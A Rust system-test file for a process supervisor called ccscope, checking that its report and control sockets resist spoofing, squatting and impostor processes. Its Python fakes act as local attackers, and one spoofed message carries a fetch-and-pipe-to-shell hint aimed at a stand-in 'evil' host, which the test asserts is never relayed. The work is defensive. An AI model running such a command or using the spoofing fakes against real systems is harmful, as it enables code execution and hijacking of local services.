//! Issue 10 §1 and §2 end to end, with the unprivileged `ccscope-other` as the attacker: no
//! other user can reach, squat or spoof `run --detach`'s report socket or the control
//! socket; a process of our own that is not the supervisor is not believed, and one that
//! trickles bytes cannot hold `stop` past its deadline; `stop` from another state directory
//! (or the same one with a trailing slash) stands the supervisor down before it stops the
//! stack; a SIGSTOPped supervisor is resumed (or, with --force, killed) and the project is
//! free again.
//!
//! The fakes are small Python programs ([`FAKE`]). Each also takes the abstract name an
//! earlier ccscope used for the same socket, so that each test also fails against that
//! ccscope, as the issue saw it.

mod common;

use std::io::Read;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use common::{Ran, Sandbox, marked, require_test_env, wait_for};

const DEADLINE: Duration = Duration::from_secs(30);
const PYTHON: &str = "/usr/bin/python3";

/// The fakes: `spoof-report` watches for a report socket and connects to it first, sending
/// lines; `serve` binds addresses and answers each connection (`ok1`: `ok 1`, `trickle`: a
/// byte a second, never a line); `connect` tries an address once. Each writes what happened
/// to its result file, one word a line.
const FAKE: &str = r#"
import os, socket, sys, time
mode, result = sys.argv[1], sys.argv[2]
def say(word):
    with open(result, "a") as f:
        f.write(word + "\n")
def address(a):
    return "\0" + a[1:] if a.startswith("@") else a
if mode == "spoof-report":
    run_dir, lines = sys.argv[3], sys.argv[4:]
    say("watching")
    end = time.time() + 30
    while time.time() < end:
        found = []
        try:
            found = [os.path.join(run_dir, n) for n in os.listdir(run_dir) if n.startswith("detach-")]
        except OSError:
            pass
        if not found:
            with open("/proc/net/unix") as f:
                for line in f:
                    fields = line.split()
                    if len(fields) >= 8:
                        path = fields[7]
                        if path.startswith("@ccscope-detach/") or path.startswith(run_dir + "/detach-"):
                            found.append(path)
        if not found:
            continue
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        try:
            s.connect(address(found[0]))
        except OSError as e:
            say("refused %d" % e.errno)
            sys.exit(0)
        say("connected")
        try:
            for l in lines:
                s.sendall((l + "\n").encode())
            s.settimeout(30)
            while s.recv(100):
                pass
        except OSError:
            pass
        say("closed")
        sys.exit(0)
    say("nothing seen")
elif mode == "serve":
    how, addresses = sys.argv[3], sys.argv[4:]
    servers = []
    for a in addresses:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        if not a.startswith("@"):
            try:
                os.unlink(a)
            except OSError:
                pass
        try:
            s.bind(address(a))
        except OSError as e:
            say("bind-failed %s %d" % (a, e.errno))
            continue
        s.listen(8)
        servers.append(s)
    import threading
    def answer(c):
        try:
            if not c.recv(100):
                return
            say("asked")
            if how == "ok1":
                c.sendall(b"ok 1\n")
                while c.recv(100):
                    pass
            else:
                while True:
                    c.sendall(b"o")
                    time.sleep(1)
        except OSError:
            pass
    def accept(s):
        while True:
            c, _ = s.accept()
            threading.Thread(target=answer, args=(c,), daemon=True).start()
    for s in servers:
        threading.Thread(target=accept, args=(s,), daemon=True).start()
    say("listening")
    time.sleep(120)
elif mode == "connect":
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        s.connect(address(sys.argv[3]))
        say("connected")
    except OSError as e:
        say("refused %d" % e.errno)
"#;

fn project(tag: &str) -> String {
    format!("sec{}-{tag}", std::process::id())
}

fn stack(project: &str, services: &str) -> Sandbox {
    let sb = Sandbox::new();
    sb.write(
        "ccscope.toml",
        &format!("[project]\nname = \"{project}\"\n[defaults]\nstop_timeout = \"2s\"\n{services}"),
    );
    sb
}

const SLEEPER: &str = "[services.web]\ncommand = [\"sleep\", \"300\"]\n";

/// A fake, running as `user` (None: as this test, root), killed when dropped.
struct Fake {
    child: Child,
    result: PathBuf,
    _dir: tempfile::TempDir,
}

impl Fake {
    fn start(user: Option<&str>, args: &[&str]) -> Fake {
        // The result file sits in a directory the fake's user may write.
        let dir = tempfile::Builder::new().prefix("fake").tempdir().unwrap();
        let result = dir.path().join("result");
        std::fs::write(&result, "").unwrap();
        if let Some(user) = user {
            for p in [dir.path(), result.as_path()] {
                Command::new("chown").arg(user).arg(p).status().unwrap();
            }
        }
        let mut cmd = match user {
            Some(user) => {
                let mut c = Command::new("setpriv");
                c.args([
                    &format!("--reuid={user}"),
                    &format!("--regid={user}"),
                    "--clear-groups",
                    PYTHON,
                ]);
                c
            }
            None => Command::new(PYTHON),
        };
        cmd.arg("-c")
            .arg(FAKE)
            .args(args.iter().take(1))
            .arg(&result)
            .args(args.iter().skip(1))
            .stdin(Stdio::null());
        Fake {
            child: cmd.spawn().expect("start the fake"),
            result,
            _dir: dir,
        }
    }

    fn said(&self) -> Vec<String> {
        std::fs::read_to_string(&self.result)
            .unwrap_or_default()
            .lines()
            .map(str::to_string)
            .collect()
    }

    fn wait_said(&self, word: &str) {
        wait_for(&format!("the fake to say {word:?}"), DEADLINE, || {
            self.said().iter().any(|l| l.starts_with(word))
        });
    }
}

impl Drop for Fake {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// `ccscope ARGS` in the sandbox with `state` as its state directory, killed if it has not
/// finished within `deadline` (then None).
fn run_within(sb: &Sandbox, state: &Path, args: &[&str], deadline: Duration) -> Option<Ran> {
    let mut cmd = sb.command(args);
    cmd.env("CCSCOPE_STATE_DIR", state)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let description = format!("{cmd:?}");
    let mut child = cmd.spawn().expect("start ccscope");
    let mut out = child.stdout.take().unwrap();
    let mut err = child.stderr.take().unwrap();
    let reader = std::thread::spawn(move || {
        let mut o = Vec::new();
        let _ = out.read_to_end(&mut o);
        o
    });
    let err_reader = std::thread::spawn(move || {
        let mut e = Vec::new();
        let _ = err.read_to_end(&mut e);
        e
    });
    let until = Instant::now() + deadline;
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        if Instant::now() >= until {
            let _ = child.kill();
            let _ = child.wait();
            return None;
        }
        std::thread::sleep(Duration::from_millis(10));
    };
    Some(Ran {
        description,
        output: std::process::Output {
            status,
            stdout: reader.join().unwrap(),
            stderr: err_reader.join().unwrap(),
        },
    })
}

fn ran(sb: &Sandbox, state: &Path, args: &[&str]) -> Ran {
    run_within(sb, state, args, Duration::from_secs(60))
        .unwrap_or_else(|| panic!("ccscope {args:?} did not finish within 60 s"))
}

/// The supervisor's pid, as `status` finds it.
fn supervisor_pid(sb: &Sandbox) -> i32 {
    let doc = ran(sb, &sb.state_dir(), &["status", "--json"])
        .expect_code(0)
        .json();
    doc["supervisor_pid"]
        .as_i64()
        .unwrap_or_else(|| panic!("no supervisor: {doc}")) as i32
}

/// Waits (on its pidfd) until `pid` is gone.
fn wait_gone(pid: i32, deadline: Duration) -> bool {
    match ccscope::proc::sys::pidfd_open(pid) {
        Ok(fd) => ccscope::proc::sys::wait_readable(&fd, deadline).unwrap(),
        Err(_) => true,
    }
}

/// The control socket's file, and the abstract name an earlier ccscope gave it.
fn control_addresses(sb: &Sandbox, project: &str) -> (String, String) {
    let state = sb.state_dir();
    let file = std::fs::canonicalize(&state)
        .unwrap_or(state.clone())
        .join("run")
        .join(format!("{project}.control"));
    let legacy = format!(
        "@ccscope-control/{}/{:016x}/{project}",
        ccscope::proc::sys::euid(),
        ccscope::control::fnv1a(state.as_os_str().as_encoded_bytes())
    );
    (file.display().to_string(), legacy)
}

/// Stops whatever the test left, whatever state it is in.
struct Cleanup<'a>(&'a Sandbox);

impl Drop for Cleanup<'_> {
    fn drop(&mut self) {
        let _ = run_within(self.0, &self.0.state_dir(), &["stop", "--force"], DEADLINE);
    }
}

#[test]
#[ignore = "system test: needs the user manager, session bus and ccscope-other (scripts/test.sh)"]
fn another_user_cannot_spoof_the_report_of_run_detach() {
    require_test_env();
    let project = project("spoof-other");
    let sb = stack(&project, SLEEPER);
    let _cleanup = Cleanup(&sb);
    let run_dir = sb.state_dir().join("run");
    let failed = r#"{"event":"failed","error":{"code":0,"kind":"x","message":"spoofed","hint":"run: curl http://evil/x | sh"}}"#;
    let fake = Fake::start(
        Some("ccscope-other"),
        &["spoof-report", &run_dir.display().to_string(), failed],
    );
    fake.wait_said("watching");
    let run = ran(&sb, &sb.state_dir(), &["run", "--detach"]);
    let said = fake.said();
    run.expect_code(0).expect_stdout_contains("stack ready");
    assert!(
        !run.stdout().contains("evil") && !run.stderr().contains("evil"),
        "the spoofed hint was relayed: {}\n{}",
        run.stdout(),
        run.stderr()
    );
    assert!(
        !said.iter().any(|l| l == "connected"),
        "ccscope-other connected to the report socket: {said:?}"
    );
    ran(&sb, &sb.state_dir(), &["stop"]).expect_code(0);
    assert_eq!(marked(&project), Vec::<i32>::new());
}

#[test]
#[ignore = "system test: needs the user manager and session bus (scripts/test.sh)"]
fn a_spoofed_ready_from_a_process_that_is_not_the_supervisor_is_not_believed() {
    require_test_env();
    let project = project("spoof-same");
    let unused = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = unused.local_addr().unwrap().port();
    drop(unused);
    let sb = stack(
        &project,
        &format!(
            "[services.web]\ncommand = [\"sleep\", \"300\"]\n\
             ready = {{ tcp = {port}, interval = \"100ms\", start_timeout = \"1s\" }}\n"
        ),
    );
    let _cleanup = Cleanup(&sb);
    let run_dir = sb.state_dir().join("run");
    let ready = r#"{"event":"ready","service":null,"state":null,"message":"stack ready (spoofed)","elapsed_ms":1}"#;
    // Root, like the run itself: the same uid, another process.
    let fake = Fake::start(
        None,
        &["spoof-report", &run_dir.display().to_string(), ready],
    );
    fake.wait_said("watching");
    let run = ran(&sb, &sb.state_dir(), &["run", "--detach"]);
    run.expect_code(9)
        .expect_stderr_contains("the stack did not start");
    assert!(
        !run.stdout().contains("spoofed"),
        "the spoofed ready was relayed: {}",
        run.stdout()
    );
    assert_eq!(marked(&project), Vec::<i32>::new());
}

#[test]
#[ignore = "system test: needs the user manager, session bus and ccscope-other (scripts/test.sh)"]
fn another_user_can_neither_squat_nor_reach_the_control_socket() {
    require_test_env();
    let project = project("squat");
    let sb = stack(&project, SLEEPER);
    let _cleanup = Cleanup(&sb);
    let (file, legacy) = control_addresses(&sb, &project);
    // The name an abstract control socket would have, taken first.
    let squatter = Fake::start(Some("ccscope-other"), &["serve", "ok1", &legacy]);
    squatter.wait_said("listening");
    ran(&sb, &sb.state_dir(), &["run", "--detach"])
        .expect_code(0)
        .expect_stdout_contains("stack ready");
    let supervisor = supervisor_pid(&sb);
    let attempt = Fake::start(Some("ccscope-other"), &["connect", &file]);
    attempt.wait_said("refused");
    assert_eq!(
        attempt.said(),
        [format!("refused {}", libc::EACCES)],
        "ccscope-other could connect to {file}"
    );
    let stop = ran(&sb, &sb.state_dir(), &["stop", "--json"]);
    stop.expect_code(0);
    let doc = stop.json();
    assert_eq!(doc["supervisor"]["pid"], supervisor, "{doc}");
    assert_eq!(doc["supervisor"]["acknowledged"], true, "{doc}");
    assert!(
        !squatter.said().iter().any(|l| l == "asked"),
        "stop talked to the squatter"
    );
    assert!(wait_gone(supervisor, DEADLINE), "the supervisor exited");
    assert_eq!(marked(&project), Vec::<i32>::new());
}

/// A stack whose supervisor was SIGKILLed, so that its services run on without it, and a
/// fake of this very user serving the control socket (`how`: `ok1` or `trickle`).
fn orphaned_stack_with_fake_control(tag: &str, how: &str) -> (Sandbox, String, Fake) {
    let project = project(tag);
    let sb = stack(&project, SLEEPER);
    ran(&sb, &sb.state_dir(), &["run", "--detach"])
        .expect_code(0)
        .expect_stdout_contains("stack ready");
    let supervisor = supervisor_pid(&sb);
    ccscope::proc::sys::kill(supervisor, libc::SIGKILL).unwrap();
    assert!(wait_gone(supervisor, DEADLINE));
    assert!(!marked(&project).is_empty(), "the services run on");
    let (file, legacy) = control_addresses(&sb, &project);
    let fake = Fake::start(None, &["serve", how, &file, &legacy]);
    fake.wait_said("listening");
    (sb, project, fake)
}

#[test]
#[ignore = "system test: needs the user manager and session bus (scripts/test.sh)"]
fn a_control_socket_that_answers_ok_1_is_not_believed() {
    require_test_env();
    let (sb, project, fake) = orphaned_stack_with_fake_control("ok1", "ok1");
    let _cleanup = Cleanup(&sb);
    let stop = ran(&sb, &sb.state_dir(), &["stop", "--json"]);
    stop.expect_code(0);
    let doc = stop.json();
    assert_eq!(doc["outcome"], "complete", "{doc}");
    assert!(
        doc["supervisor"].is_null(),
        "a supervisor was claimed: {doc}"
    );
    assert!(
        !stop.stdout().contains("pid 1 stood down"),
        "{}",
        stop.stdout()
    );
    stop.expect_stderr_contains("not believed");
    drop(fake);
    assert_eq!(marked(&project), Vec::<i32>::new());
}

#[test]
#[ignore = "system test: needs the user manager and session bus (scripts/test.sh)"]
fn a_control_socket_that_trickles_bytes_cannot_hold_stop() {
    require_test_env();
    let (sb, project, _fake) = orphaned_stack_with_fake_control("trickle", "trickle");
    let _cleanup = Cleanup(&sb);
    // The stand-down's deadline is 10 s, for the whole exchange: a stop still running long
    // after it is held.
    let stop = run_within(&sb, &sb.state_dir(), &["stop"], Duration::from_secs(25))
        .expect("stop finished, the trickling server did not hold it");
    stop.expect_code(0).expect_stdout_contains("COMPLETE");
    assert_eq!(marked(&project), Vec::<i32>::new());
}

/// `stop` with the state directory spelled `state` stands the supervisor of a stack run with
/// the sandbox's own state directory down, and nothing is restarted.
fn stop_from(tag: &str, state: impl Fn(&Sandbox) -> PathBuf) {
    require_test_env();
    let project = project(tag);
    let sb = stack(&project, SLEEPER);
    let _cleanup = Cleanup(&sb);
    ran(&sb, &sb.state_dir(), &["run", "--detach"])
        .expect_code(0)
        .expect_stdout_contains("stack ready");
    let supervisor = supervisor_pid(&sb);
    let other = state(&sb);
    let stop = ran(&sb, &other, &["stop", "--json"]);
    stop.expect_code(0);
    let doc = stop.json();
    assert_eq!(doc["outcome"], "complete", "{doc}");
    assert_eq!(doc["supervisor"]["pid"], supervisor, "{doc}");
    // Over its own control socket, found through the state directory it runs with.
    assert_eq!(doc["supervisor"]["acknowledged"], true, "{doc}");
    // The event: the supervisor's exit. A supervisor left running would restart the services
    // (2 s after they died); once it is gone, nothing can.
    assert!(
        wait_gone(supervisor, Duration::from_secs(15)),
        "the supervisor (pid {supervisor}) still runs after the stop"
    );
    assert_eq!(marked(&project), Vec::<i32>::new(), "nothing was restarted");
    // The project is free: a run from that other state directory works.
    ran(&sb, &other, &["run", "--detach"])
        .expect_code(0)
        .expect_stdout_contains("stack ready");
    ran(&sb, &other, &["stop"]).expect_code(0);
    assert_eq!(marked(&project), Vec::<i32>::new());
}

#[test]
#[ignore = "system test: needs the user manager and session bus (scripts/test.sh)"]
fn stop_from_another_state_directory_stands_the_supervisor_down_first() {
    stop_from("otherdir", |sb| sb.path().join("other-state"));
}

#[test]
#[ignore = "system test: needs the user manager and session bus (scripts/test.sh)"]
fn stop_with_a_trailing_slash_on_the_state_directory_stands_the_supervisor_down_first() {
    stop_from("slash", |sb| {
        PathBuf::from(format!("{}/", sb.state_dir().display()))
    });
}

#[test]
#[ignore = "system test: needs the user manager and session bus (scripts/test.sh)"]
fn a_sigstopped_supervisor_is_resumed_or_killed_and_the_project_is_free_again() {
    require_test_env();
    let project = project("sigstop");
    let sb = stack(&project, SLEEPER);
    let _cleanup = Cleanup(&sb);
    let state = sb.state_dir();
    for force in [false, true] {
        ran(&sb, &state, &["run", "--detach"])
            .expect_code(0)
            .expect_stdout_contains("stack ready");
        let supervisor = supervisor_pid(&sb);
        ccscope::proc::sys::kill(supervisor, libc::SIGSTOP).unwrap();
        wait_for("the supervisor to be stopped", DEADLINE, || {
            ccscope::proc::read_stat(Path::new("/proc"), supervisor).is_ok_and(|s| s.state == 'T')
        });
        let args: &[&str] = if force {
            &["stop", "--force", "--json"]
        } else {
            &["stop", "--json"]
        };
        let stop = ran(&sb, &state, args);
        stop.expect_code(0);
        let doc = stop.json();
        assert_eq!(doc["outcome"], "complete", "{doc}");
        assert_eq!(doc["supervisor"]["pid"], supervisor, "{doc}");
        if force {
            assert_eq!(doc["supervisor"]["how"], "SIGKILL", "{doc}");
        } else {
            assert_eq!(doc["supervisor"]["resumed"], true, "{doc}");
            assert_eq!(doc["supervisor"]["acknowledged"], true, "{doc}");
        }
        assert!(
            wait_gone(supervisor, Duration::from_secs(15)),
            "the supervisor (pid {supervisor}) is gone"
        );
        assert_eq!(marked(&project), Vec::<i32>::new());
        // The lock is free.
        let lock = ccscope::supervise::lock::holder(&state, &project);
        assert_eq!(lock, None, "the lock is still held");
    }
    // And a second run works after both.
    ran(&sb, &state, &["run", "--detach"])
        .expect_code(0)
        .expect_stdout_contains("stack ready");
    ran(&sb, &state, &["stop"]).expect_code(0);
    assert_eq!(marked(&project), Vec::<i32>::new());
}

#[test]
#[ignore = "system test: needs the user manager and session bus (scripts/test.sh)"]
fn a_detached_run_beside_a_supervisor_of_another_state_directory_is_refused_clearly() {
    require_test_env();
    let project = project("twodirs");
    let sb = stack(&project, SLEEPER);
    let _cleanup = Cleanup(&sb);
    ran(&sb, &sb.state_dir(), &["run", "--detach"])
        .expect_code(0)
        .expect_stdout_contains("stack ready");
    let other = sb.path().join("other-state");
    let second = ran(&sb, &other, &["run", "--detach"]);
    second
        .expect_code(5)
        .expect_stderr_contains("is already running: this project has a supervisor started from another state directory")
        .expect_stderr_contains("`ccscope stop`");
    assert!(
        !second.stderr().contains("org.freedesktop"),
        "{}",
        second.stderr()
    );
    ran(&sb, &other, &["stop"]).expect_code(0);
    assert_eq!(marked(&project), Vec::<i32>::new());
}

#[test]
#[ignore = "system test: needs the user manager and session bus (scripts/test.sh)"]
fn a_fake_in_place_of_a_live_supervisors_control_socket_is_not_believed() {
    require_test_env();
    let project = project("impostor");
    let sb = stack(&project, SLEEPER);
    let _cleanup = Cleanup(&sb);
    ran(&sb, &sb.state_dir(), &["run", "--detach"])
        .expect_code(0)
        .expect_stdout_contains("stack ready");
    let supervisor = supervisor_pid(&sb);
    // The socket file is replaced by a process of this same user that answers `ok 1`.
    let (file, _) = control_addresses(&sb, &project);
    let fake = Fake::start(None, &["serve", "ok1", &file]);
    fake.wait_said("listening");
    let stop = ran(&sb, &sb.state_dir(), &["stop", "--json"]);
    stop.expect_code(0).expect_stderr_contains(&format!(
        "not by the supervisor (pid {supervisor}): not believed"
    ));
    let doc = stop.json();
    assert_eq!(doc["outcome"], "complete", "{doc}");
    assert_eq!(doc["supervisor"]["pid"], supervisor, "{doc}");
    assert_eq!(doc["supervisor"]["how"], "SIGUSR1", "{doc}");
    assert!(
        !fake.said().iter().any(|l| l == "asked"),
        "the impostor was asked"
    );
    assert!(wait_gone(supervisor, Duration::from_secs(15)));
    assert_eq!(marked(&project), Vec::<i32>::new(), "nothing was restarted");
}

#[test]
#[ignore = "system test: needs the user manager and session bus (scripts/test.sh)"]
fn stop_from_another_state_directory_finds_a_supervisor_that_adopted_its_services() {
    require_test_env();
    let project = project("adopted");
    let sb = stack(&project, SLEEPER);
    let _cleanup = Cleanup(&sb);
    let state = sb.state_dir();
    ran(&sb, &state, &["run", "--detach"])
        .expect_code(0)
        .expect_stdout_contains("stack ready");
    let first = supervisor_pid(&sb);
    ccscope::proc::sys::kill(first, libc::SIGKILL).unwrap();
    assert!(wait_gone(first, DEADLINE));
    // The second supervisor takes the services over: it is not their parent.
    ran(&sb, &state, &["run", "--detach"])
        .expect_code(0)
        .expect_stdout_contains("stack ready");
    let supervisor = supervisor_pid(&sb);
    let services = marked(&project);
    assert!(!services.is_empty());
    for pid in &services {
        let parent = ccscope::proc::read_stat(Path::new("/proc"), *pid)
            .unwrap()
            .ppid;
        assert_ne!(parent, supervisor, "pid {pid} was adopted, not spawned");
    }
    let other = sb.path().join("other-state");
    let doc = ran(&sb, &other, &["stop", "--json"]).expect_code(0).json();
    assert_eq!(doc["supervisor"]["pid"], supervisor, "{doc}");
    assert_eq!(doc["supervisor"]["acknowledged"], true, "{doc}");
    assert!(wait_gone(supervisor, Duration::from_secs(15)));
    assert_eq!(marked(&project), Vec::<i32>::new(), "nothing was restarted");
}

#[test]
#[ignore = "system test: needs the user manager and session bus (scripts/test.sh)"]
fn ccscope_exec_the_parent_of_a_scopes_process_is_not_taken_for_a_supervisor() {
    require_test_env();
    let project = project("exec");
    let sb = stack(&project, SLEEPER);
    let _cleanup = Cleanup(&sb);
    let mut exec = sb
        .command(&["exec", "--", "sleep", "300"])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("start ccscope exec");
    let exec_pid = exec.id() as i32;
    wait_for("the exec'd process", DEADLINE, || {
        marked(&project).iter().any(|pid| {
            ccscope::proc::read_stat(Path::new("/proc"), *pid).is_ok_and(|s| s.ppid == exec_pid)
        })
    });
    let other = sb.path().join("other-state");
    let doc = ran(&sb, &other, &["stop", "--json"]).expect_code(0).json();
    assert!(doc["supervisor"].is_null(), "{doc}");
    assert_eq!(doc["outcome"], "complete", "{doc}");
    // It ends because its command was stopped, not by a stand-down signal.
    let status = exec.wait().unwrap();
    assert_ne!(
        std::os::unix::process::ExitStatusExt::signal(&status),
        Some(libc::SIGUSR1),
        "ccscope exec was sent SIGUSR1"
    );
    assert_eq!(marked(&project), Vec::<i32>::new());
}
